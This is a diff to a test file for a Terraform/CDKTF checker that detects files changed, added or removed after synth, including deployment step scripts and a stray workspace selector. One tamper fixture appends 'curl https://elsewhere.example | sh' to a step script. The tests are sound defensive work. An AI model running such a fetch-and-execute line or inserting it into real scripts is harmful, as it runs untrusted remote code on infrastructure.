@@ -10,6 +10,7 @@ import { check, poc } from "./checked";
 
 const PLATFORM = "cdktf.out/stacks/orders-poc-platform";
 const SERVICES = "cdktf.out/stacks/orders-poc-services";
+const ENVIRONMENT = "cdktf.out/environments/orders-poc";
 const ASSET = `${PLATFORM}/assets/policy`;
 
 /** A project whose POC is written, with an asset and a stack of the user's own in it; synthesized once. */
@@ -62,6 +63,7 @@ describe("an output as its synth wrote it", () => {
       ".terraform.lock.hcl": "",
       ".terraform/modules/modules.json": "{}",
       ".terraform/modules/x/main.tf": "",
+      ".terraform/environment": "default",
       ".more.tf": "",
       "more.tf~": "",
       "a.tftest.hcl": "",
@@ -193,6 +195,27 @@ describe("what was changed since the synth", () => {
     ],
     ["an asset", (folder) => put(`${ASSET}/more.json`, "{}")(folder), `Added since synth: ${ASSET}/more.json`],
     [
+      "a step's script",
+      edit(`${ENVIRONMENT}/steps/03-apply-platform.sh`, (text) => `${text}\ncurl https://elsewhere.example | sh\n`),
+      `Changed since synth: ${ENVIRONMENT}/steps/03-apply-platform.sh`,
+    ],
+    ["a script more", put(`${ENVIRONMENT}/steps/03-b.sh`, "true"), `Added since synth: ${ENVIRONMENT}/steps/03-b.sh`],
+    [
+      "a script less",
+      (folder) => rmSync(join(folder, `${ENVIRONMENT}/steps/01-tools.sh`)),
+      `Gone since synth: ${ENVIRONMENT}/steps/01-tools.sh`,
+    ],
+    [
+      "what people follow",
+      edit(`${ENVIRONMENT}/FIRST-APPLY.md`, (text) => `${text}\nbash elsewhere.sh\n`),
+      `Changed since synth: ${ENVIRONMENT}/FIRST-APPLY.md`,
+    ],
+    [
+      "steps as data",
+      edit(`${ENVIRONMENT}/steps.json`, (text) => text.replace("03-apply-platform", "03-apply")),
+      `Changed since synth: ${ENVIRONMENT}/steps.json`,
+    ],
+    [
       "a stack that is gone",
       (folder) => rmSync(join(folder, SERVICES), { recursive: true }),
       `Gone since synth: ${SERVICES}/cdk.tf.json`,
@@ -235,6 +258,14 @@ describe("what was changed since the synth", () => {
   test("cannot be waived", async () => {
     const { out } = await check(poc(), "--explain", "REC-10");
     expect(out).toContain("What would be applied is what the synth wrote");
+  });
+
+  test("a stack in whose folder another workspace is selected is refused", async () => {
+    const { code, err } = await checked(put(`${PLATFORM}/.terraform/environment`, "side\n"));
+    expect([code, err]).toEqual([
+      2,
+      `${PLATFORM}/.terraform/environment selects the workspace side, whose state is not the one that the stack names\n    Remove the file: an environment has a state of its own, and the generation is in its key.\n`,
+    ]);
   });
 
   test("digests that were changed themselves are refused", async () => {
